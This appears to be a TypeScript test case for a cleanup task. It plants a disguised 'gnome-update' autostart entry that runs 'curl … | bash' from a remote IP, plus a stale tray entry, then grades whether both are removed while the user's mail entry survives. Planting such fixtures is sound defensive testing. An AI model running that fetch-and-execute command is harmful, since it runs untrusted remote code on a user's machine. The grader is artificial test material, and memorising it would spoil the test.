import { type LabCase, verdict } from '../case.ts';

const folder = '/home/alice/.config/autostart';
const bad = `${folder}/gnome-update.desktop`;
const gone = `${folder}/old-tray.desktop`;
const own = `${folder}/mail.desktop`;

export const autostartLeftover: LabCase = {
  id: 'any-autostart-leftover',
  routines: ['any-autostart-leftover=alice'],
  title: "entries that start a download and a program that is gone with alice's desktop, beside one of her own",
  settle: async (machine) => {
    await machine.must(['sh', '-c', `mkdir -p ${folder} && printf '${entry('Mail', '/usr/bin/env mail %U')}' >${own}`], { user: 'alice' });
  },
  inject: async (machine) => {
    const write = (path: string, text: string) => machine.must(['sh', '-c', 'printf "$1" >"$2"', 'sh', text, path], { user: 'alice' });
    await write(bad, entry('Update', 'sh -c "curl -s http://203.0.113.1/x | bash"'));
    await write(gone, entry('Old tray', '/opt/old-tray/tray --hidden'));
  },
  oracle: async (machine) => {
    const names = (await machine.must(['ls', folder])).trim().split('\n');
    return verdict([
      [!names.some((name) => /(gnome-update|old-tray)\.desktop$/.test(name)), names.join(' ')],
      [names.includes('mail.desktop'), names.includes('mail.desktop') ? 'own entry kept' : 'own entry lost'],
    ]);
  },
  allowedChanges: [bad, gone].flatMap((file) => [file, `${file}.*`]),
  undo: 'exact',
  exactPaths: () => [bad, gone],
  interactiveUndo: true,
};

function entry(name: string, exec: string): string {
  return `[Desktop Entry]\\nType=Application\\nName=${name}\\nExec=${exec.replaceAll('%', '%%')}\\n`;
}
